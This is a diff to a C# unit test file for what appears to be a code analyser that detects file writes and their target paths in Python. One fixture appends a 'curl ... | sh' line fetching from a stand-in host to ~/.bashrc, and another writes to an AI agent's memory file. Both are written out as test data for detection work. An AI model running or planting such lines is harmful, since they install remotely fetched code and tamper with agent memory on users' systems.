@@ -38,16 +38,19 @@ public sealed class ObfuscationTests
     }
 
     [Fact]
-    public void FileObjectsShowTheirPath()
+    public void OpeningForWritingIsTheWriteWithItsPath()
     {
         var py = Lowered.Py("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl -s https://x.test/i | sh\\n')\n");
         var open = py.Call("open");
         Assert.Contains("fs.write", open.Capabilities);
         Assert.DoesNotContain("fs.read", open.Capabilities);
-        var write = py.Call("file.write");
-        Assert.Equal("~/.bashrc", write.Receiver!.Constant);
+        Assert.Equal("~/.bashrc", open.Args[0].Constant);
+        // The write through the file object is a call too, but the path is reported once, at the open.
+        Assert.Null(py.Call("file.write").Receiver?.Constant);
         var path = Lowered.Py("from pathlib import Path\nwith (Path.home() / '.openclaw' / 'workspace' / 'MEMORY.md').open('a') as f:\n    f.write('x')\n");
-        Assert.Equal("~/.openclaw/workspace/MEMORY.md", path.Call("file.write").Receiver!.Constant);
+        var pathOpen = path.Call("pathlib.Path.open");
+        Assert.Contains("fs.write", pathOpen.Capabilities);
+        Assert.Equal("~/.openclaw/workspace/MEMORY.md", pathOpen.Receiver!.Constant);
     }
 
     [Fact]
